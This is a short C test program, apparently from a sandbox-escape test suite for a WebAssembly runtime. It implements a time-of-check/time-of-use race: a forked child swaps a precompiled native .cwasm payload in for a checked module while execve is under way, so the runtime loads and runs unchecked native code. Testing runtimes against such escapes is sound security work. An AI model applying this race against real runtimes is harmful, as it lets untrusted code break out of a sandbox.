// attack: execve a checked module whose path is swapped (rename) for a precompiled .cwasm
// (native code) between the runtime's check and the new runtime's load: a forked child
// waits for the exec to begin (an O_CLOEXEC pipe closing), then renames payload.cwasm
// over the module; a new runtime that loads by path maps the native code and runs it
// grant: none
// fixture: cwasm
#include "escape.h"
extern char **environ;
int main(int argc, char **argv) {
    setup(argc, argv);
    if (access("payload.cwasm", R_OK) != 0) broken("no payload.cwasm fixture: %s", E_);
    /* The checked module: exits 1 (opening a path that does not exist). */
    if (write_probe_module("m.wasm", "/no-such-path-wali-escape") < 0) broken("m.wasm");
    if (chmod("m.wasm", 0755) != 0) broken("chmod: %s", E_);
    int p[2];
    if (pipe2(p, O_CLOEXEC) != 0) broken("pipe2: %s", E_);
    pid_t c = fork();
    if (c < 0) broken("fork: %s", E_);
    if (c == 0) {
        close(p[1]);
        char b;
        while (read(p[0], &b, 1) > 0) {}
        /* EOF: the parent's execve has begun. */
        rename("payload.cwasm", "m.wasm");
        _exit(0);
    }
    close(p[0]);
    char *av[] = {"m.wasm", NULL};
    execve("m.wasm", av, environ);
    broken("execve m.wasm: %s", E_);
}
